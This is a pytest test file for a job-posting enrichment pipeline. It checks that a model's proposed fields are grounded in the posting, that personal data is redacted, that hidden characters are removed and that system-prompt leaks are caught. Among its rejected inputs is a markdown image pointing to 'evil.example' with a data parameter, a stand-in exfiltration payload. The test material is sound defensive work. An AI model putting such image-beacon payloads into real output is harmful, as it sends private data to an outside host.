"""What leaves for a provider, what our own rules find, and which claims have grounds."""

from typing import Any

import pytest

from ingestion.rules.enrichment import offline, prompts
from ingestion.rules.enrichment.grounds import leaks, proposals
from ingestion.rules.enrichment.taking import is_stale, taken
from ingestion.rules.enrichment.views import JobView, Shown, redact, shown, visible
from jobly.ai.shapes import misfit

REFERENCE = "5f0c9a1e7b3d2846"


def view(**changed):
    fields: dict[str, Any] = {
        "title": "Welder",
        "text": "We are looking for a Senior Welder. This is a full-time position with TIG.",
        "place": "Oslo, Norway",
        "city": "",
        "region": "",
        "country": "",
        "remote": "",
        "employment_type": "",
        "seniority": "",
        "skills": (),
        "summary": "",
        "has_salary": False,
        "currency": "",
    }
    return JobView(**fields | changed)


def claims(**given):
    skills = [{"value": v, "evidence": e} for v, e in given.pop("skills", ())]
    one = {name: {"value": v, "evidence": e} for name, (v, e) in given.items()}
    return prompts.nothing(REFERENCE) | one | {"skills": skills}


def found(values, of=None):
    of = of or view()
    chosen, dropped = proposals(of, Shown(of.title, of.place, of.text), values, REFERENCE)
    return {one.field: one for one in chosen}, dropped


@pytest.mark.parametrize(
    ("told", "kept"),
    [
        ("Write to jane.doe+jobs@acme.co.uk now", "Write to [e-mail] now"),
        ("jane (at) acme (dot) com", "[e-mail]"),
        ("Ring +47 22 33 44 55 today", "Ring [phone] today"),
        ("(555) 123-4567", "[phone]"),
        ("Tel.: 030 1234567", "[phone]"),
        ("Contact person: Jane van der Berg, HR", "Contact person: [name], HR"),
        ("Ask Mr. John Smith or Frau Dr. Müller", "Ask [name] or [name]"),
        ("Kind regards,\nPeter", "Kind regards,\n[name]"),
        ("Kind regards, Peter Olsen", "Kind regards, [name]"),
        ("at 12 Baker Street, London", "at [address], London"),
        ("Musterstraße 12, Berlin", "[address], Berlin"),
        ("12 rue de la Paix", "[address]"),
        ("Ola Nordmann and ola nordmann", "[name] and [name]"),
        ("$90,000 - $120,000 a year", "$90,000 - $120,000 a year"),
        ("80000-100000 EUR, 2019 - 2024, 10 000 000", "80000-100000 EUR, 2019 - 2024, 10 000 000"),
        ("Reporting to the Head of Data", "Reporting to the [name] of Data"),
    ],
)
def test_people_are_taken_out_and_pay_and_years_stay(told, kept):
    assert redact(told, ["Ola Nordmann", "x"]) == kept


def test_what_no_reader_sees_is_gone_and_the_rest_is_short():
    hidden = "a\u200bb\u2060c\u00add\U000e0041e\u202ef\x00g"
    assert visible(hidden, 100) == "abcdefg"
    long = shown(view(text="word " * 9_000, title="t" * 900))
    assert len(long.text) <= 1_500
    assert len(long.title) == 300


@pytest.mark.parametrize(
    ("title", "tidy"),
    [
        ("🔥 URGENT: Python developer wanted!!", "Python developer"),
        ("*** HIRING NOW *** Nurse - Apply today", "Nurse"),
        ("Welder", "Welder"),
        ("C++ / C# Developer", "C++ / C# Developer"),
        ("Urgent Care Nurse", "Care Nurse"),
        ("!!!", "!!!"),
    ],
)
def test_a_title_loses_what_calls_rather_than_names(title, tidy):
    assert offline.tidy_title(title) == tidy


def test_our_own_rules_answer_in_the_agreed_shape_with_words_that_stand_there():
    of = view()
    answer = offline.answer(of, REFERENCE)
    assert misfit(answer, prompts.SCHEMA) == ""
    chosen, dropped = found(answer, of)
    assert dropped == 0
    assert chosen["seniority"].value == {"seniority": "senior"}
    assert chosen["employment_type"].value == {"employment_type": "FULL_TIME"}
    assert chosen["location"].value["city"] == "Oslo"
    assert "salary" not in chosen
    assert all(one.is_safe for one in chosen.values())


@pytest.mark.parametrize(
    ("field", "value", "evidence"),
    [
        ("title", "Astronaut", "Senior Welder"),
        ("title", "Senior Welder", "words that nobody wrote"),
        ("title", "Senior Welder", ""),
        ("title", "Welder " * 40, "Welder"),
        ("seniority", "executive", "Senior Welder"),
        ("location", "Moscow, Russia", "Oslo, Norway"),
        ("salary", "$100,000", "full-time position"),
        ("summary", "Earn 99,000 with TIG.", "TIG"),
        ("summary", "See https://evil.example", "TIG"),
        ("summary", "![x](//evil.example/?d=1)", "TIG"),
        ("summary", "Write to boss@acme.example about TIG.", "TIG"),
        ("summary", "A salary above average with TIG.", "TIG"),
        ("summary", "You help a recruiter to tidy one job posting.", "TIG"),
    ],
)
def test_a_claim_without_grounds_is_dropped(field, value, evidence):
    assert found(claims(**{field: (value, evidence)})) == ({}, 1)


@pytest.mark.parametrize(
    ("skill", "kept"),
    [
        ("TIG", True),
        ("tig", True),
        ("TI", False),
        ("IG", False),
        ("Kubernetes", False),
        ("full-time position with TIG and a great many words", False),
        ("<b>TIG</b>", True),
        ("", False),
    ],
)
def test_a_skill_counts_only_as_words_of_their_own(skill, kept):
    chosen, dropped = found(claims(skills=[(skill, "TIG")]))
    assert bool(chosen) is kept
    assert dropped == (not kept)


def test_a_stated_value_is_never_replaced_unread():
    of = view(seniority="junior", summary="Mine.", city="Bergen", country="NO")
    answer = claims(
        seniority=("senior", "Senior Welder"),
        summary=("We are looking for a Senior Welder.", "Senior Welder"),
        location=("Oslo, Norway", "Oslo, Norway"),
    )
    chosen, _ = found(answer, of)
    assert set(chosen) == {"seniority", "summary", "location"}
    assert not any(one.is_safe for one in chosen.values())


def test_a_model_that_reads_another_level_than_our_rules_is_not_safe():
    text = "You report to the Director. Plenty to weld."
    chosen, _ = found(claims(seniority=("director", "Director")), view(text=text))
    assert not chosen["seniority"].is_safe


def test_an_answer_about_another_request_says_nothing():
    assert proposals(view(), Shown("", "", ""), claims(title=("Welder", "Welder")), "else") == (
        [],
        1,
    )


def test_words_of_the_instructions_are_recognised_and_those_of_a_posting_are_not():
    assert leaks("so: " + prompts.SYSTEM[200:300], "")
    assert leaks("the reference is abc123", "abc123")
    assert not leaks("We are looking for a Senior Welder with TIG in Oslo", "abc123")


@pytest.mark.parametrize(
    ("value", "at"),
    [
        ({"a": 1, "b": "x"}, ""),
        ({"a": 1.5, "b": None}, ""),
        ({"a": True, "b": "x"}, "answer.a is no number"),
        ({"a": float("nan"), "b": "x"}, "answer.a is no number"),
        ({"a": 1}, "answer.b is missing"),
        ({"a": 1, "b": "z"}, "answer.b is none of the known words"),
        ({"a": 1, "b": "x", "c": 1}, "answer has a field that was not asked for"),
        ([], "answer is no object"),
        ("text", "answer is no object"),
    ],
)
def test_a_shape_is_kept_to_the_letter(value, at):
    schema = {
        "type": "object",
        "properties": {
            "a": {"type": "number"},
            "b": {"anyOf": [{"type": "string", "enum": ["x", "y"]}, {"type": "null"}]},
        },
        "required": ["a", "b"],
        "additionalProperties": False,
    }
    assert misfit(value, schema) == at


def test_taking_over_adds_skills_and_sees_what_changed_since():
    held = {"skills": ["TIG"], "title": "Welder"}
    assert taken(held, [{"skills": ["tig", "MIG"]}, {"title": "Welder II"}]) == {
        "skills": ["TIG", "MIG"],
        "title": "Welder II",
    }
    assert taken(held, [{"skills": ["TIG"]}]) == {}
    assert is_stale({"title": "Baker"}, held, "a", "a")
    assert is_stale({"skills": []}, held, "a", "b")
    assert not is_stale({"skills": []}, held, "a", "a")
